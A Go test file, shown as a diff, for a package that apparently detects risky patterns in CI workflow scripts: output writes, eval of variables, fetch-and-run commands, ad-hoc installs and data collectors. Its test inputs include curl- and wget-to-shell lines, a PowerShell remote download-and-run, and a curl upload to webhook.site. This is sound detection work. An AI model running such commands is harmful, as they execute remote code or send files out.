@@ -1,0 +1,110 @@
+package script
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestLines(t *testing.T) {
+	text := "a \\\n  b\n# c\n\n  d # e\nf \\"
+	want := []Line{{"a  b", 0, 7}, {"d # e", 15, 5}, {"f \\", 21, 3}}
+	if diff := cmp.Diff(want, Lines(text)); diff != "" {
+		t.Errorf("lines (-want +got):\n%s", diff)
+	}
+	for _, l := range Lines(text) {
+		if l.Offset+l.Length > len(text) {
+			t.Errorf("%+v is outside of the text", l)
+		}
+	}
+}
+
+func TestWrites(t *testing.T) {
+	type write struct{ Name, Value string }
+	for text, want := range map[string][]write{
+		`echo "x=$A" >> $GITHUB_OUTPUT`:                               {{"x", "$A"}},
+		`echo 'x=a' | tee -a "${GITHUB_OUTPUT}"`:                      {{"x", "a"}},
+		`"x=$env:A" >> $env:GITHUB_OUTPUT`:                            {{"x", "$env:A"}},
+		`echo "x=1" | Out-File -FilePath $Env:GITHUB_OUTPUT`:          {{"x", "1"}},
+		`echo "::set-output name=x::$A"`:                              {{"x", `$A"`}},
+		"{\n echo \"x<<EOF\"\n cat f\n echo EOF\n} >> $GITHUB_OUTPUT": {{"x", "cat f"}},
+		"cat <<EOF >> $GITHUB_OUTPUT\nx=$A\ny=b\nEOF":                 {{"x", "$A"}, {"y", "b"}},
+		`./make >> $GITHUB_OUTPUT`:                                    {{"", "./make"}},
+		`echo "x=$A"`:                                                 nil,
+		`echo "x=$A" >> $GITHUB_ENV`:                                  nil,
+	} {
+		var got []write
+		for _, w := range Writes(text, "GITHUB_OUTPUT") {
+			got = append(got, write{w.Name, w.Value})
+		}
+		if diff := cmp.Diff(want, got); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", text, diff)
+		}
+	}
+}
+
+func TestEvaluated(t *testing.T) {
+	for line, want := range map[string][]string{
+		`eval "echo $A ${B}"`: {"A", "B"}, `bash -c "x $A"`: {"A"}, `bash -c 'x $A'`: nil, `echo "$A"`: nil, `ssh host "run $A"`: {"A"},
+		`python3 -c "print('$A')"`: {"A"}, `iex $env:A`: {"A"}, `bash script.sh $A`: nil,
+	} {
+		if diff := cmp.Diff(want, Evaluated(line)); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", line, diff)
+		}
+	}
+}
+
+func TestFetched(t *testing.T) {
+	for line, want := range map[string]bool{
+		"curl -sSL https://x.example/i.sh | sudo -E bash -": true, "bash <(curl -s https://x.example)": true, "wget -qO- https://x.example | sh": true,
+		"iex (New-Object Net.WebClient).DownloadString('x')": true, "curl https://x.example -o f": false, "curl https://x.example | jq .": false, "curl https://x.example/k | apt-key add -": false,
+	} {
+		if got := Fetched(line); got != want {
+			t.Errorf("%s: got %v", line, got)
+		}
+	}
+}
+
+func TestAdHoc(t *testing.T) {
+	for line, want := range map[string]string{
+		"npm ci": "", "npm install": "", "npm i -g left-pad": "npm i -g left-pad", "npm install ./local": "", "yarn add x": "yarn add x", "yarn": "",
+		"pnpm --filter a install": "", "gem install rake": "gem install rake", "bundle install": "", "bundle add x": "bundle add x", "npx cowsay hi": "npx cowsay hi",
+		"npm update": "npm update", "cd a && npm install b@1": "npm install b@1",
+	} {
+		if got := AdHoc(line); got != want {
+			t.Errorf("%s: got %q, want %q", line, got, want)
+		}
+	}
+}
+
+func TestLogs(t *testing.T) {
+	if !Traced("set -eux") || !Traced("bash -x a.sh") || Traced("set -eu") || Traced("echo -x") {
+		t.Error("traced")
+	}
+	if !Listed("env") || !Listed("printenv | sort") || Listed("env A=b make") || Listed("setup") {
+		t.Error("listed")
+	}
+	if Collector("curl -d @x https://webhook.site/1") != "webhook.site" || Collector("curl https://example.com/webhook") != "" {
+		t.Error("collector")
+	}
+}
+
+func FuzzScript(f *testing.F) {
+	f.Add("{\necho \"a<<EOF\"\nX=$Y \\\n} >> $GITHUB_OUTPUT\neval $X\n")
+	f.Fuzz(func(t *testing.T, text string) {
+		for _, l := range Lines(text) {
+			if l.Offset < 0 || l.Offset+l.Length > len(text) {
+				t.Errorf("%+v is outside of %q", l, text)
+			}
+			Evaluated(l.Text)
+			AdHoc(l.Text)
+			Fetched(l.Text)
+		}
+		for _, w := range Writes(text, "GITHUB_ENV") {
+			if w.Offset < 0 || w.Offset > len(text) {
+				t.Errorf("%+v is outside of %q", w, text)
+			}
+		}
+		Assignments(text)
+	})
+}
